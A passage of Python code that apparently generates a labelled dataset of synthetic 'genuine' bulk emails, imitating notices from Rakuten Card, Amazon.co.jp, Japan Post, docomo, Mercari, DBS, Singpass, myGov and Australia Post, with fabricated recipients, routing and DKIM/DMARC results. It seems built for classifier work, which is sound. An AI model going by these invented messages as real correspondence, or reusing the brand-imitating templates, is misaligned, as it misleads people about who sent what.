             "Genuine Rakuten Card 'billing amount confirmed' notice from info@mail.rakuten-card.co.jp (bounce domain, DKIM and DMARC aligned), ISO-2022-JP text and HTML pointing only to rakuten-card.co.jp e-NAVI pages",
             KENJI, "yjp", t, ("mta11.mail.rakuten-card.co.jp", "mta11.mail.rakuten-card.co.jp", "202.32.117.141"),
             f"b-{hx(name, 'b', 16)}@bounce.rakuten-card.co.jp", "pass", [("pass", dom, "rkc2023")], ("pass", "REJECT"), dom)
    m.sender = [dkim_sig(m, dom, "rkc2023", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    lid = lambda x: f"https://www.rakuten-card.co.jp/e-navi/members/statement/index.xhtml?l-id=mail_{x}_{digits(name, x, 6)}"
    txt = f"""楽天カード株式会社

森本 健二 様

いつも楽天カードをご利用いただき、誠にありがとうございます。
2024年06月27日（木）お支払い分のご請求金額が確定いたしましたので、お知らせいたします。

■お支払い日　　：2024年06月27日（木）
■ご請求金額　　：23,418円
■お支払い方法　：口座振替

ご利用明細の詳細は楽天e-NAVIにてご確認ください。
{lid('meisai')}

※お支払い日の前営業日までに、お引き落とし口座へのご入金をお願いいたします。
※本メールは送信専用アドレスからお送りしております。ご返信いただいてもお答えできません。

――――――――――――――――――――――――――――――
楽天カード株式会社
https://www.rakuten-card.co.jp/
――――――――――――――――――――――――――――――
"""
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-2022-JP"></head>
<body style="margin:0;padding:0;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:'ヒラギノ角ゴ Pro W3','メイリオ',sans-serif;font-size:14px;color:#333;">
<tr><td style="padding:16px 0;border-bottom:2px solid #bf0000;"><img src="https://image.card.jp.rakuten-static.com/card_corp/mail/common/logo_rakutencard.png" width="160" alt="楽天カード"></td></tr>
<tr><td style="padding:20px 0;line-height:1.8;">森本 健二 様<br><br>いつも楽天カードをご利用いただき、誠にありがとうございます。<br>
2024年06月27日（木）お支払い分のご請求金額が確定いたしましたので、お知らせいたします。</td></tr>
<tr><td><table width="100%" cellpadding="8" cellspacing="0" style="border:1px solid #ddd;font-size:14px;">
<tr><td style="background:#f7f7f7;width:160px;">お支払い日</td><td>2024年06月27日（木）</td></tr>
<tr><td style="background:#f7f7f7;">ご請求金額</td><td><b>23,418円</b></td></tr>
<tr><td style="background:#f7f7f7;">お支払い方法</td><td>口座振替</td></tr></table></td></tr>
<tr><td style="padding:20px 0;text-align:center;"><a href="{lid('meisai_btn')}" style="background:#bf0000;color:#fff;padding:12px 40px;text-decoration:none;border-radius:4px;">楽天e-NAVIでご利用明細を確認</a></td></tr>
<tr><td style="font-size:12px;color:#666;line-height:1.6;">※お支払い日の前営業日までに、お引き落とし口座へのご入金をお願いいたします。<br>※本メールは送信専用アドレスからお送りしております。<br><br>
<a href="https://www.rakuten-card.co.jp/?l-id=mail_footer">楽天カード株式会社</a>　<a href="https://www.rakuten-card.co.jp/security/?l-id=mail_security">セキュリティについて</a></td></tr>
</table></body></html>
"""
    m.headers = [
        f"From: {addr('楽天カード株式会社', 'info@' + dom, 'ISO-2022-JP')}",
        f"To: {KENJI}",
        f"Subject: {ew('【楽天カード】ご請求金額確定のお知らせ', 'ISO-2022-JP')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <{digits(name, 'mid', 14)}.{hx(name, 'mid2', 12)}.rkc@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = Multi("alternative", f"=_rkc_{hx(name, 'bnd', 20)}", [plain(txt, "iso-2022-jp", "7bit"), html(htm, "iso-2022-jp", "7bit")])
    emit(m)


def l_amazon_order() -> None:
    name = "b15-bulk-amazon-co-jp-order-confirmation"
    t = T("2024-11-29 12:38:14")
    sent = t - timedelta(seconds=1)
    order = f"249-{digits(name, 'o1', 7)}-{digits(name, 'o2', 7)}"
    m = Mail(name, "bulk",
             "Genuine Amazon.co.jp order confirmation from auto-confirm@amazon.co.jp via Amazon's SES path (amazon.co.jp and amazonses.com DKIM, DMARC pass), every link an amazon.co.jp /gp/r.html tracking redirect back to amazon.co.jp",
             AIKO, "gmail", t, ("a27-47.smtp-out.us-west-2.amazonses.com", "a27-47.smtp-out.us-west-2.amazonses.com", "54.240.27.47"),
             f"2024112912381{hx(name, 'rp', 20)}-{tok(name, 'rp2', 13, ALNUM_MIX.upper()[:36])}@bounces.amazon.co.jp", "pass",
             [("pass", "amazon.co.jp", "rte02"), ("pass", "amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n")],
             ("pass", "QUARANTINE"), "amazon.co.jp")
    m.sender = ses_sender(m, "amazon.co.jp", sent, "us-west-2", "rte02", "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID")

    def r(path: str, ref: str) -> str:
        from urllib.parse import quote
        return (f"https://www.amazon.co.jp/gp/r.html?C={tok(name, 'C' + ref, 13, ALNUM_MIX.upper()[:36])}&K={tok(name, 'K', 13, ALNUM_MIX.upper()[:36])}"
                f"&M=urn:rtn:msg:2024112912381{hx(name, 'rtn', 20)}&R={tok(name, 'R' + ref, 13, ALNUM_MIX.upper()[:36])}&T=C"
                f"&U={quote('https://www.amazon.co.jp' + path, safe='')}&H={tok(name, 'H' + ref, 26, ALNUM_MIX.upper()[:36])}&ref_={ref}")

    items = [("象印 ステンレスマグ 水筒 直飲み 480ml ミネラルブルー SM-ZB48-AM", "2,980"), ("キングジム テプラPRO テープカートリッジ 12mm 白/黒文字 3個パック", "2,354")]
    rows = "".join(f"<tr><td style=\"padding:8px 0;border-bottom:1px solid #eee;\"><a href=\"{r('/dp/B0' + tok(name, 'asin' + str(i), 8, ALNUM_MIX.upper()[:36]), 'pe_2640190_' + str(i))}\" style=\"color:#0066c0;text-decoration:none;\">{n}</a><br>数量: 1</td><td style=\"padding:8px 0;text-align:right;border-bottom:1px solid #eee;\">￥{p}</td></tr>" for i, (n, p) in enumerate(items))
    htm = f"""<!DOCTYPE html><html lang="ja"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;background:#fff;font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-size:14px;color:#0f1111;">
<tr><td style="padding:14px 0;"><a href="{r('/', 'pe_logo')}"><img src="https://m.media-amazon.com/images/G/09/x-locale/common/amazon-logo._CB485931996_.png" width="110" alt="Amazon.co.jp"></a></td><td style="text-align:right;font-size:20px;">注文の確認</td></tr>
<tr><td colspan="2" style="padding:10px 0;line-height:1.7;">田辺 愛子 様<br>Amazon.co.jpをご利用いただき、ありがとうございます。お客様のご注文を承りましたのでお知らせいたします。お届け予定日と配送状況は、<a href="{r('/gp/css/order-history', 'pe_orders')}" style="color:#0066c0;">注文履歴</a>からご確認いただけます。</td></tr>
<tr><td colspan="2" style="background:#f3f3f3;padding:12px;">お届け予定: <b>12月1日 日曜日</b><br>お届け先: 田辺 愛子 様 東京都世田谷区...<br>注文番号: <a href="{r('/gp/your-account/order-details?orderID=' + order, 'pe_order_details')}" style="color:#0066c0;">{order}</a></td></tr>
<tr><td colspan="2"><table width="100%" cellpadding="0" cellspacing="0" style="font-size:14px;">{rows}
<tr><td style="padding:8px 0;">配送料・手数料</td><td style="text-align:right;">￥0</td></tr>
<tr><td style="padding:8px 0;font-weight:bold;">ご請求額</td><td style="text-align:right;font-weight:bold;">￥5,334</td></tr></table></td></tr>
<tr><td colspan="2" style="padding:18px 0;text-align:center;"><a href="{r('/gp/your-account/order-details?orderID=' + order, 'pe_btn')}" style="background:#ffd814;color:#0f1111;padding:10px 30px;border-radius:20px;text-decoration:none;">注文を表示または変更する</a></td></tr>
<tr><td colspan="2" style="font-size:11px;color:#565959;line-height:1.6;padding-top:10px;border-top:1px solid #ddd;">このEメールアドレスは配信専用です。このメッセージに返信しないようお願いいたします。<br>
ご注文の詳細や配送状況は<a href="{r('/gp/css/homepage.html', 'pe_ya')}" style="color:#0066c0;">アカウントサービス</a>からご確認いただけます。<br>&copy; 1996-2024, Amazon.com, Inc. or its affiliates<br>Amazon.co.jp</td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://www.amazon.co.jp/gp/r.html?C={tok(name, 'Cpx', 13, ALNUM_MIX.upper()[:36])}&M=urn:rtn:msg:2024112912381{hx(name, 'rtn', 20)}&R={tok(name, 'Rpx', 13, ALNUM_MIX.upper()[:36])}&T=O&U=http%3A%2F%2Fimages.amazon.com%2Fimages%2FG%2F01%2Fnav%2Ftransp.gif&H={tok(name, 'Hpx', 26, ALNUM_MIX.upper()[:36])}&ref_=pe_2640190_open" />
</body></html>
"""
    txt = f"""Amazon.co.jp ご注文の確認

田辺 愛子 様

Amazon.co.jpをご利用いただき、ありがとうございます。お客様のご注文を承りましたのでお知らせいたします。

お届け予定: 12月1日 日曜日
注文番号: {order}

{items[0][0]}  ￥{items[0][1]}
{items[1][0]}  ￥{items[1][1]}
ご請求額: ￥5,334

注文を表示または変更する:
https://www.amazon.co.jp/gp/your-account/order-details?orderID={order}

このEメールアドレスは配信専用です。このメッセージに返信しないようお願いいたします。
Amazon.co.jp
"""
    m.headers = [
        f"Date: {fmt(sent, 0)}",
        f"From: {addr('Amazon.co.jp', 'auto-confirm@amazon.co.jp')}",
        f"To: {AIKO}",
        f"Message-ID: <0101019{hx(name, 'mid', 13)}-{guid(name, 'mid2')}-000000@us-west-2.amazonses.com>",
        f"Subject: {ew('Amazon.co.jp ご注文の確認 「象印 ステンレスマグ 水筒 直飲み 480ml...」ほか1点')}",
        "MIME-Version: 1.0",
        "X-AMAZON-MAIL-RELAY-TYPE: notification",
        "Bounces-to: " + f"2024112912381{hx(name, 'rp', 20)}-{tok(name, 'rp2', 13, ALNUM_MIX.upper()[:36])}@bounces.amazon.co.jp",
        "X-AMAZON-RTE-VERSION: 2.0",
        "X-AMAZON-METADATA: CA=" + tok(name, 'ca', 13, ALNUM_MIX.upper()[:36]) + "-CU=" + tok(name, 'cu', 13, ALNUM_MIX.upper()[:36]),
        "X-Original-MessageID: <urn.rtn.msg.2024112912381" + hx(name, 'rtn', 20) + "@1732883894000.rtn-svc-na-prod-iad-2.iad2.amazon.com>",
    ]
    m.body = Multi("alternative", f"----=_Part_{num(name, 'p', 1000000, 9999999)}_{num(name, 'p2', 100000000, 999999999)}.{digits(name, 'p3', 13)}",
                   [plain(txt, "UTF-8", "quoted-printable"), html(htm, "UTF-8", "quoted-printable")])
    emit(m)


def l_japanpost_delivered() -> None:
    name = "b15-bulk-japanpost-haitatsu-kanryo"
    t = T("2025-01-22 05:17:45")
    sent = t - timedelta(seconds=2)
    dom = "delivery.post.japanpost.jp"
    track = digits(name, "tr", 12)
    m = Mail(name, "bulk",
             "Genuine Japan Post delivery-completed notification (subscribed on the tracking site) from info@delivery.post.japanpost.jp, ISO-2022-JP plain text whose only link is the official trackings.post.japanpost.jp search",
             YUI, "icloud", t, ("mo12.post.japanpost.jp", "mo12.post.japanpost.jp", "210.136.231.12"), f"info@{dom}", "pass",
             [("pass", dom, "jp2022")], ("pass", "NONE"), dom)
    m.sender = [dkim_sig(m, dom, "jp2022", "From:To:Subject:Date:Message-Id:MIME-Version:Content-Type", sent)]
    body = f"""長谷川 由衣 様

いつも日本郵便をご利用いただきありがとうございます。
お申し込みいただいた郵便物等の配達が完了しましたのでお知らせします。

お問い合わせ番号：{track[:4]}-{track[4:8]}-{track[8:]}
商品名　　　　　：ゆうパック
配達完了日時　　：2025年01月22日 14時12分
配達局　　　　　：福岡中央郵便局

詳しい配達状況は、以下のURLからご確認いただけます。
https://trackings.post.japanpost.jp/services/srv/search/direct?reqCodeNo1={track}&searchKind=S002&locale=ja

※このメールは送信専用アドレスから配信しています。ご返信いただいてもお答えできませんのでご了承ください。
※本メールにお心当たりのない場合は、お手数ですが削除してください。

日本郵便株式会社
https://www.post.japanpost.jp/
"""
    m.headers = [
        f"From: {addr('日本郵便', 'info@' + dom, 'ISO-2022-JP')}",
        f"To: {YUI}",
        f"Subject: {ew('【日本郵便】配達完了のお知らせ', 'ISO-2022-JP')}",
        f"Date: {jst(sent)}",
        f"Message-Id: <{digits(name, 'mid', 14)}.{digits(name, 'mid2', 8)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = plain(body, "iso-2022-jp", "7bit")
    emit(m)


def l_docomo_bill() -> None:
    name = "b15-bulk-docomo-ryokin-kakutei"
    t = T("2024-04-20 01:30:11")
    sent = t - timedelta(seconds=2)
    dom = "mail.docomo.ne.jp"
    m = Mail(name, "bulk",
             "Genuine docomo 'your March charges are confirmed' notice from docomo's own sending domain with aligned DKIM/DMARC, amount and due date stated, links only to www.docomo.ne.jp My docomo pages with icid tracking parameters",
             TAKUYA, "outlook", t, ("mta-out02.mail.docomo.ne.jp", "mta-out02.mail.docomo.ne.jp", "203.138.181.72"),
             f"bounce-{hx(name, 'b', 12)}@{dom}", "pass", [("pass", dom, "dcm2023")], ("pass", "REJECT"), dom, country="JP")
    m.sender = [dkim_sig(m, dom, "dcm2023", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    base = "https://www.docomo.ne.jp/mydocomo/"
    htm = f"""<!DOCTYPE html><html lang="ja"><head><meta charset="UTF-8"></head>
<body style="margin:0;background:#f5f5f5;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:'Hiragino Sans',Meiryo,sans-serif;font-size:14px;color:#333;">
<tr><td style="padding:18px 24px;border-bottom:3px solid #cc0033;"><img src="https://www.docomo.ne.jp/images_osp/common/logo/logo_docomo.png" width="110" alt="docomo"></td></tr>
<tr><td style="padding:24px;line-height:1.8;">
西田 拓也 様<br><br>
いつもドコモをご利用いただき、ありがとうございます。<br>
2024年3月ご利用分のご請求金額が確定しましたのでお知らせします。<br><br>
<table width="100%" cellpadding="8" cellspacing="0" style="border:1px solid #e0e0e0;">
<tr><td style="background:#fafafa;width:40%;">ご請求金額</td><td><b>7,986円</b>（税込）</td></tr>
<tr><td style="background:#fafafa;">お支払い方法</td><td>クレジットカード</td></tr>
<tr><td style="background:#fafafa;">お支払い日</td><td>ご利用のカード会社の規定による</td></tr></table><br>
ご請求内訳は、My docomoの「料金・支払い」からご確認いただけます。<br><br>
<div style="text-align:center;"><a href="{base}bill/?icid=CRP_MYD_mail_bill_fix_01" style="background:#cc0033;color:#fff;padding:12px 36px;border-radius:24px;text-decoration:none;">ご請求内訳を確認する</a></div><br>
<span style="font-size:12px;color:#666;">※本メールは、「ご請求金額確定のお知らせ」メールの受信を設定されているお客様にお送りしています。<br>
配信設定の変更は<a href="{base}settings/mail/?icid=CRP_MYD_mail_bill_fix_02">こちら</a>から。<br>
※本メールは送信専用アドレスから送信しています。</span>
</td></tr>
<tr><td style="padding:16px 24px;background:#f7f7f7;font-size:11px;color:#888;">株式会社NTTドコモ　〒100-6150 東京都千代田区永田町2-11-1 山王パークタワー<br><a href="https://www.docomo.ne.jp/?icid=CRP_MYD_mail_bill_footer" style="color:#888;">https://www.docomo.ne.jp/</a></td></tr>
</table></td></tr></table></body></html>
"""
    txt = f"""西田 拓也 様

いつもドコモをご利用いただき、ありがとうございます。
2024年3月ご利用分のご請求金額が確定しましたのでお知らせします。

ご請求金額：7,986円（税込）
お支払い方法：クレジットカード

ご請求内訳は、My docomoの「料金・支払い」からご確認いただけます。
{base}bill/?icid=CRP_MYD_mail_bill_fix_01

株式会社NTTドコモ
"""
    m.headers = [
        f"From: {addr('NTTドコモ', 'information@' + dom)}",
        f"To: {TAKUYA}",
        f"Subject: {ew('【ドコモ】ご請求金額確定のお知らせ（2024年3月ご利用分）')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <{digits(name, 'mid', 16)}.{hx(name, 'mid2', 10)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "base64"), html(htm, "UTF-8", "base64"))
    emit(m)


def l_mercari_sold() -> None:
    name = "b15-bulk-mercari-shohin-konyu"
    t = T("2025-05-09 11:46:02")
    sent = t - timedelta(seconds=1)
    em = f"em{digits(name, 'em', 4)}.mercari.jp"
    uid = digits(name, "uid", 8)
    m = Mail(name, "bulk",
             "Genuine Mercari 'your item was purchased, please ship it' notification from no-reply@mercari.jp through SendGrid with mercari.jp DKIM/DMARC aligned, links to jp.mercari.com transaction and settings pages",
             AIKO, "gmail", t, (f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", "167.89.107.42"),
             f"bounces+{uid}-{hx(name, 'b', 4)}-aiko.tanabe88=gmail.com@{em}", "pass",
             [("pass", "mercari.jp", "s1"), ("pass", "sendgrid.info", "smtpapi")], ("pass", "REJECT"), "mercari.jp")
    m.sender = sendgrid_sender(m, "mercari.jp", sent) + [dkim_sig(m, "sendgrid.info", "smtpapi", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to", sent, bits=1024)]
    item = f"m{digits(name, 'item', 11)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;">
<div style="max-width:600px;margin:0 auto;background:#fff;font-family:'Hiragino Sans',sans-serif;font-size:14px;color:#333;line-height:1.8;">
<div style="padding:18px;text-align:center;border-bottom:1px solid #eee;"><img src="https://static.mercdn.net/images/mail/logo_mercari.png" width="120" alt="mercari"></div>
<div style="padding:24px;">
<p>aikoさん</p>
<p>出品した商品が購入されました。<br>商品の発送をお願いします。</p>
<table width="100%" cellpadding="6" style="border:1px solid #eee;font-size:13px;">
<tr><td style="width:35%;background:#fafafa;">商品名</td><td>ル・クルーゼ マグカップ 2個セット（未使用）</td></tr>
<tr><td style="background:#fafafa;">商品価格</td><td>¥3,200</td></tr>
<tr><td style="background:#fafafa;">配送方法</td><td>らくらくメルカリ便</td></tr>
<tr><td style="background:#fafafa;">発送までの日数</td><td>1~2日で発送</td></tr></table>
<p style="text-align:center;margin:24px 0;"><a href="https://jp.mercari.com/transaction/{item}" style="background:#ff333f;color:#fff;padding:12px 40px;border-radius:4px;text-decoration:none;">取引画面を開く</a></p>
<p style="font-size:12px;color:#888;">※購入者の評価を確認したい場合は、取引画面から購入者のプロフィールをご確認ください。<br>
※このメールの配信設定は<a href="https://jp.mercari.com/mypage/settings/notifications" style="color:#888;">お知らせ設定</a>から変更できます。<br>
※このメールは送信専用です。ご返信いただいてもお答えできません。</p>
</div>
<div style="padding:14px;text-align:center;font-size:11px;color:#aaa;">&copy; Mercari, Inc.</div>
</div></body></html>
"""
    txt = f"""aikoさん

出品した商品が購入されました。
商品の発送をお願いします。

商品名：ル・クルーゼ マグカップ 2個セット（未使用）
商品価格：¥3,200
配送方法：らくらくメルカリ便

取引画面を開く
https://jp.mercari.com/transaction/{item}

© Mercari, Inc.
"""
    m.headers = [
        f"From: {addr('メルカリ', 'no-reply@mercari.jp')}",
        f"Subject: {ew('【メルカリ】商品が購入されました')}",
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}@geopod-ismtpd-{num(name, 'gp', 1, 40)}>",
        f"X-SG-EID: u001.{b64(name, 'sgeid', 200)}",
        f"X-Entity-ID: u001.{b64(name, 'eid', 22, True)}==",
        f"To: {AIKO}",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt), html(htm), boundary=hx(name, "bnd", 64))
    emit(m)


def l_dbs_alert() -> None:
    name = "b15-bulk-dbs-paynow-transaction-alert"
    t = T("2024-03-02 02:14:51")
    sent = t - timedelta(seconds=1)
    m = Mail(name, "bulk",
             "Genuine DBS iBanking transaction alert for a small PayNow transfer the account holder made, from ibanking.alert@dbs.com with DKIM/DMARC pass, no links at all, only the bank's published hotline",
             WEILING, "singnet", t, ("sgmail3.dbs.com", "sgmail3.dbs.com", "203.116.104.35"), "ibanking.alert@dbs.com", "pass",
             [("pass", "dbs.com", "dbs1")], ("pass", "REJECT"), "dbs.com")
    m.sender = [dkim_sig(m, "dbs.com", "dbs1", "Date:From:To:Subject:MIME-Version:Content-Type", sent),
                f"Received: from appmail{num(name, 'am', 1, 9)}.sg.dbs.corp ([10.{num(name, 'i', 1, 250)}.{num(name, 'i2', 1, 250)}.{num(name, 'i3', 1, 250)}])\n\tby sgmail3.dbs.com with ESMTP; {fmt(sent, 8)}"]
    htm = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#000;">
<p>Dear Sir / Madam,</p>
<p>We refer to your PayNow transfer dated 02 Mar 10:14 (SGT). We are pleased to confirm that the transaction was completed.</p>
<table cellpadding="3" cellspacing="0" style="font-size:13px;">
<tr><td>Date &amp; Time:</td><td>02 Mar 10:14 (SGT)</td></tr>
<tr><td>Amount:</td><td>SGD 85.00</td></tr>
<tr><td>From:</td><td>My Account A/C ending 4417</td></tr>
<tr><td>To:</td><td>TAN MEI HUA</td></tr>
<tr><td>Recipient's mobile:</td><td>ending 2231</td></tr>
</table>
<p>If you did not authorise the above transaction, please call our 24-hour Customer Service Hotline at 1800 111 1111 (from Singapore) or (65) 6327 2265 (from overseas).</p>
<p>Please do not reply to this email.</p>
<p>Yours faithfully<br>DBS Bank Ltd</p>
<p style="font-size:11px;color:#555;">This is an automatically generated email. Please do not reply.<br>DBS Bank Ltd, Co. Reg. No. 196800306E</p>
</body></html>
"""
    m.headers = [
        f"Date: {fmt(sent, 8)}",
        "From: DBS Alerts <ibanking.alert@dbs.com>",
        f"To: {WEILING}",
        f"Message-ID: <{digits(name, 'mid', 13)}.{num(name, 'mid2', 1000, 9999)}.{digits(name, 'mid3', 13)}.JavaMail.alerts@appmail{num(name, 'am', 1, 9)}>",
        "Subject: iBanking Alerts",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "UTF-8", "7bit")
    emit(m)


def l_singpass_update() -> None:
    name = "b15-bulk-singpass-email-updated"
    t = T("2025-07-14 01:13:26")
    sent = t - timedelta(seconds=1)
    dom = "singpass.gov.sg"
    m = Mail(name, "bulk",
             "Genuine Singpass notice that the account's email address was changed (by the user), from singpass.gov.sg through Amazon SES Singapore with aligned DKIM and p=reject DMARC, no links, only the published helpdesk number",
             MARCUS, "gmail", t, ("e226-19.smtp-out.ap-southeast-1.amazonses.com", "e226-19.smtp-out.ap-southeast-1.amazonses.com", "23.251.226.19"),
             f"010e0198{hx(name, 'rp', 8)}-{guid(name, 'rp2')}-000000@ap-southeast-1.amazonses.com", "pass",
             [("pass", dom, tok(name, 'sessel', 32)), ("pass", "amazonses.com", "bw45wyq3hkghdoy32obql4uyexcghmc7")],
             ("pass", "REJECT"), dom)
    m.sender = ses_sender(m, dom, sent, "ap-southeast-1")
    htm = """<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f4f4f4;font-family:Poppins,Arial,sans-serif;">
<div style="max-width:600px;margin:0 auto;background:#fff;">
<div style="padding:20px 28px;border-bottom:1px solid #eee;"><img src="https://www.singpass.gov.sg/static/email/singpass-logo.png" width="120" alt="Singpass"></div>
<div style="padding:26px 28px;font-size:14px;color:#333;line-height:1.6;">
<p>Dear user,</p>
<p>The email address for your Singpass account was updated on <b>14 Jul 2025, 9:13 AM</b>.</p>
<p>If you made this change, no further action is required.</p>
<p>If you did not make this change, please call the Singpass Helpdesk at <b>6335 3533</b> immediately.</p>
<p>Singpass will never ask you to share your password or 2FA details.</p>
<p>Thank you,<br>Singpass Team</p>
</div>
<div style="padding:14px 28px;font-size:11px;color:#888;background:#fafafa;">This is an automated email. Please do not reply.<br>Singpass is developed and managed by GovTech on behalf of the Singapore Government.</div>
</div></body></html>
"""
    txt = """Dear user,

The email address for your Singpass account was updated on 14 Jul 2025, 9:13 AM.

If you made this change, no further action is required.
If you did not make this change, please call the Singpass Helpdesk at 6335 3533 immediately.

Singpass will never ask you to share your password or 2FA details.

Thank you,
Singpass Team
"""
    m.headers = [
        f"From: Singpass <no-reply@{dom}>",
        f"To: {MARCUS}",
        "Subject: Your Singpass account details were updated",
        "MIME-Version: 1.0",
        f"Message-ID: <010e0198{hx(name, 'rp', 8)}-{guid(name, 'rp2')}-000000@ap-southeast-1.amazonses.com>",
        f"Date: {fmt(sent, 0)}",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "7bit"), html(htm, "UTF-8", "quoted-printable"))
    emit(m)


def l_mygov_inbox() -> None:
    name = "b15-bulk-mygov-inbox-notice"
    t = T("2024-08-22 05:02:16")
    sent = t - timedelta(seconds=2)
    m = Mail(name, "bulk",
             "Genuine myGov Inbox notification from noreply@my.gov.au (DKIM and p=reject DMARC pass): plain text that tells the reader to sign in to myGov themselves and deliberately contains no link",
             SARAH, "iinet", t, ("smtp-out2.servicesaustralia.gov.au", "smtp-out2.servicesaustralia.gov.au", "164.97.246.22"),
             "noreply@my.gov.au", "pass", [("pass", "my.gov.au", "mygov1")], ("pass", "REJECT"), "my.gov.au")
    m.sender = [dkim_sig(m, "my.gov.au", "mygov1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    txt = """You have a new message in your myGov Inbox.

To read it, sign in to myGov using the myGov app or by typing my.gov.au into your web browser.

We'll never send you a link to sign in to myGov in an email or SMS.

Please don't reply to this email. This mailbox is not monitored.

myGov
"""
    m.headers = [
        "From: myGov <noreply@my.gov.au>",
        f"To: {SARAH}",
        "Subject: You have a new message in your myGov Inbox",
        f"Date: {fmt(sent, 10)}",
        f"Message-ID: <{guid(name, 'mid')}@my.gov.au>",
        "MIME-Version: 1.0",
    ]
    m.body = plain(txt, "us-ascii", "7bit")
    emit(m)


def l_auspost_tracking() -> None:
    name = "b15-bulk-auspost-delivery-today-sfmc"
    t = T("2024-12-09 21:31:08")
    sent = t - timedelta(seconds=2)
    dom = "notifications.auspost.com.au"
    job = num(name, "job", 100000, 999999)
    m = Mail(name, "bulk",
             "Genuine Australia Post 'your delivery is coming today' notice sent through Salesforce Marketing Cloud for notifications.auspost.com.au (DKIM/DMARC aligned), every link a click.notifications.auspost.com.au tracking redirect to auspost.com.au",
             BRON, "optus", t, (f"mta{num(name, 'mta', 1, 9)}.{dom}", f"mta{num(name, 'mta', 1, 9)}.{dom}", f"13.111.{num(name, 'ip', 60, 90)}.{num(name, 'ip2', 10, 250)}"),
             f"bounce-{num(name, 'bx', 100, 999)}_HTML-{num(name, 'bx2', 100000000, 999999999)}-{job}-{num(name, 'bx3', 1000000, 9999999)}-{num(name, 'bx4', 1, 9)}@bounce.{dom}", "pass",
             [("pass", dom, "200608")], ("pass", "REJECT"), dom)
    m.sender = [dkim_sig(m, dom, "200608", "From:To:Subject:Date:List-Unsubscribe:MIME-Version:Reply-To:List-ID:X-CSA-Complaints:Message-ID:Content-Type", sent)]
    tracking = f"33{tok(name, 'trk', 3, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{digits(name, 'trk2', 17)}"
    c = lambda i: f"https://click.{dom}/?qs={hx(name, 'qs' + str(i), 160)}"
    htm = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f3f1ee;font-family:Arial,Helvetica,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:18px 24px;"><a href="{c(1)}"><img src="https://image.{dom}/lib/fe9b12727263047e74/m/1/ap-logo.png" width="140" alt="Australia Post"></a></td></tr>
<tr><td style="padding:8px 24px 24px;font-size:15px;color:#212129;line-height:1.55;">
<h1 style="font-size:24px;margin:0 0 12px;">Your delivery is coming today</h1>
<p>Hi Bronwyn,</p>
<p>Your parcel from <b>Koala Bookshop</b> is with a driver and will be delivered today between <b>10:00am and 2:00pm</b>.</p>
<p>Tracking number: <a href="{c(2)}" style="color:#dc1928;">{tracking}</a></p>
<p style="margin:22px 0;"><a href="{c(3)}" style="background:#dc1928;color:#fff;padding:12px 24px;border-radius:4px;text-decoration:none;">Track your delivery</a></p>
<p>Not going to be home? You can choose a <a href="{c(4)}" style="color:#dc1928;">safe drop location</a> in the app before the driver arrives.</p>
</td></tr>
<tr><td style="padding:18px 24px;background:#f3f1ee;font-size:11px;color:#6c6c70;line-height:1.5;">
<a href="{c(5)}" style="color:#6c6c70;">Manage notifications</a> | <a href="{c(6)}" style="color:#6c6c70;">Privacy policy</a><br>
Australia Post acknowledges the Traditional Custodians of the land on which we operate, live and gather as employees, and recognise their continuing connection to land, water and community.<br>
&copy; Australia Post 2024. 111 Bourke Street, Melbourne VIC 3000.</td></tr>
</table></td></tr></table>
<img src="https://click.{dom}/open.aspx?ffcb10-{hx(name, 'open', 80)}" width="1" height="1" alt="">
</body></html>
"""
    txt = f"""Your delivery is coming today

Hi Bronwyn,

Your parcel from Koala Bookshop is with a driver and will be delivered today between 10:00am and 2:00pm.

Tracking number: {tracking}
Track your delivery: {c(3)}

Manage notifications: {c(5)}
(c) Australia Post 2024. 111 Bourke Street, Melbourne VIC 3000.
"""
    m.headers = [
        f"From: Australia Post <noreply@{dom}>",
        f"To: <{BRON}>",
        "Subject: Your delivery from Koala Bookshop is coming today",
        f"Date: {fmt(sent, -6, pad=False)}",
        f"List-Unsubscribe: <https://click.{dom}/subscription_center.aspx?jwt={b64(name, 'jwt', 120, True)}>, <mailto:leave-{hx(name, 'lv', 40)}@leave.{dom}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "MIME-Version: 1.0",
